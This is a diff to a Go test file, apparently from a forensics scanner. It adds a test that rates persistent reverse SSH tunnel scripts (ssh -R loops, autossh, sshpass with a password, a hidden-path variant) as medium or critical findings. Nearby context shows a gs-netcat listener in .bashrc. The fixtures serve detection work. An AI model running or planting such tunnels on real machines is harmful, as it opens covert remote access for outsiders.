@@ -1,6 +1,7 @@
 package shell
 
 import (
+	"fmt"
 	"testing"
 
 	"github.com/strata-forensics/strata/audit"
@@ -51,5 +52,30 @@ func TestGsNetcatOptions(t *testing.T) {
 	}
 	if fs := scanFile("/root/.bashrc", "gs-netcat -s Sec4et -l -d 127.0.0.1 -p 5432 &\n"); len(fs) > 0 {
 		t.Errorf("port relay: %v", fs)
+	}
+}
+
+// TestRemoteSupportTunnel: a reverse SSH tunnel kept open with a key login to a host its
+// configuration names (or a host name) is an administrator's remote-support shape: medium,
+// "confirm it is one"; the same to a hard-coded address, with a typed password, a tun device
+// or from a hidden place stays high or critical.
+func TestRemoteSupportTunnel(t *testing.T) {
+	conf := ". /etc/support.conf\n"
+	loop := "while true; do\n  ssh -N -o ServerAliveInterval=30 -o ExitOnForwardFailure=yes -i /etc/support/key -R %s \"$USER_AT_HOST\"\n  sleep 30\ndone\n"
+	for _, tc := range []struct {
+		path, text string
+		want       audit.Severity
+	}{
+		{"/usr/local/sbin/support-tunnel.sh", conf + fmt.Sprintf(loop, "\"$PORT\":localhost:22"), audit.Medium},
+		{"/opt/support/tunnel.sh", conf + "exec autossh -M 0 -N -i /etc/support/key -o StrictHostKeyChecking=no -R \"${RPORT}:localhost:${LPORT}\" \"${RUSER}@${RHOST}\"\n", audit.Medium},
+		{"/usr/local/bin/t.sh", "while :; do ssh -N -o ServerAliveInterval=30 -R 2222:localhost:22 ops@jump.example.org; sleep 10; done\n", audit.Medium},
+		{"/usr/local/bin/t.sh", "while :; do ssh -N -o ServerAliveInterval=30 -R 2222:localhost:22 root@198.51.100.77; sleep 10; done\n", audit.Critical},
+		{"/usr/local/bin/t.sh", conf + "sshpass -p \"$PW\" ssh -N -o ServerAliveInterval=30 -R 2222:localhost:22 \"$USER_AT_HOST\"\n", audit.Critical},
+		{"/root/.cache/.t.sh", conf + fmt.Sprintf(loop, "2222:localhost:22"), audit.Critical},
+	} {
+		fs := scanFile(tc.path, tc.text)
+		if len(fs) == 0 || fs[0].Rule != RuleTunnel || fs[0].Severity != tc.want {
+			t.Errorf("%s %q: want %s, got %v", tc.path, tc.text, tc.want, fs)
+		}
 	}
 }
